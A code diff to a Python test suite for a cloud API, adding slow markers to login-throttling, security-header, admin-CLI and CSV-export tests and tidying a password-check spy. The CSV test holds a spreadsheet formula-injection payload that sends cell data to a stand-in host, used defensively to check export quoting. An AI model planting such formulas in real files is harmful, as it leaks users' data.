@@ -35,6 +35,7 @@ from cloud_api.cli import main as cli_main
 from cloud_api.db.models import User, UserSession
 from cloud_api.db.session import make_engine, session_factory, transaction
 from cloud_api.reports.csv_export import to_csv
+from cloud_api.security import verify_password
 from cloud_api.services import users
 from cloud_api.services.context import Services
 from cloud_api.services.errors import TooManyRequests
@@ -152,11 +153,10 @@ def test_an_unknown_email_costs_the_same_password_check(
     accounts: Services, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     checked: list[str] = []
-    real = users.verify_password
 
     def spy(password: str, encoded: str) -> bool:
         checked.append(encoded)
-        return real(password, encoded)
+        return verify_password(password, encoded)
 
     monkeypatch.setattr(users, "verify_password", spy)
     with pytest.raises(users.AuthError, match="wrong email or password") as unknown:
@@ -269,6 +269,7 @@ def _assert_throttled(answer: httpx.Response) -> None:
     assert body["error"] == "too_many_requests" and "sign-in" in body["detail"]
 
 
+@pytest.mark.slow
 def test_wrong_logins_are_throttled_and_the_real_user_gets_back_in(chain: Chain) -> None:
     with httpx.Client(base_url=chain.url, timeout=60) as client:
         answers = [_login(client, MANAGER, f"guess {n}", "10.1.0.1") for n in range(30)]
@@ -289,6 +290,7 @@ def test_wrong_logins_are_throttled_and_the_real_user_gets_back_in(chain: Chain)
         assert signed.json()["user"]["email"] == MANAGER
 
 
+@pytest.mark.slow
 def test_one_address_flooding_does_not_stop_another(chain: Chain) -> None:
     with httpx.Client(base_url=chain.url, timeout=60) as client:
         statuses = [
@@ -302,6 +304,7 @@ def test_one_address_flooding_does_not_stop_another(chain: Chain) -> None:
         assert _login(client, BOSS, PASSWORD, "10.4.0.1").status_code == 200
 
 
+@pytest.mark.slow
 def test_security_headers_and_no_public_docs(chain: Chain) -> None:
     with httpx.Client(base_url=chain.url, timeout=60) as client:
         refused = client.get("/v1/scope")
@@ -356,6 +359,7 @@ def test_https_only_sets_hsts_on_every_answer() -> None:
         assert answer.headers["cache-control"] == "no-store"
 
 
+@pytest.mark.slow
 def test_admin_disables_enables_revokes_and_deletes_users(chain: Chain) -> None:
     def admin_cli(action: str) -> int:
         return cli_main(["admin", action, "--email", MANAGER, "--database-url", chain.database_url])
@@ -397,6 +401,7 @@ def test_admin_disables_enables_revokes_and_deletes_users(chain: Chain) -> None:
         engine.dispose()
 
 
+@pytest.mark.slow
 def test_admin_cli_names_an_unknown_user(chain: Chain, capsys: pytest.CaptureFixture[str]) -> None:
     url = chain.database_url
     for action in ("disable-user", "enable-user", "delete-user", "revoke-sessions"):
@@ -427,6 +432,7 @@ def test_csv_quotes_formula_like_text_but_not_numbers() -> None:
     assert rows[-1] == ["plain", ""]
 
 
+@pytest.mark.slow
 def test_csv_exports_never_start_a_cell_with_a_formula(chain: Chain) -> None:
     evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
     answer = _checkout(chain, sku="=SKU-EVIL", category=evil, brand="@brand")
